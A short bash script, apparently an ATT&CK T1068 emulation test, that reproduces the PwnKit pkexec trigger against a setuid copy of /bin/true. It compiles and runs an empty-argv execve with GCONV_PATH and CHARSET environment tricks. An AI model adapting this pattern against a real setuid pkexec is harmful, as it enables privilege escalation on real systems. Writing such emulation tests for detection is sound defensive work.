#!/bin/bash
# T1068: A setuid program is started without even its name.
cp /bin/true /usr/local/bin/pkexec; chmod 4755 /usr/local/bin/pkexec
cat >/tmp/p.c <<'C'
#include <unistd.h>
int main(){char*a[]={0};char*e[]={"pwnkit","PATH=GCONV_PATH=.","CHARSET=PWNKIT","SHELL=pwnkit",0};return execve("/usr/local/bin/pkexec",a,e);}
C
cd /tmp; mkdir -p 'GCONV_PATH=.' pwnkit; cp /bin/true 'GCONV_PATH=./pwnkit'; gcc -o p p.c && setpriv --reuid 65534 --clear-groups ./p
true
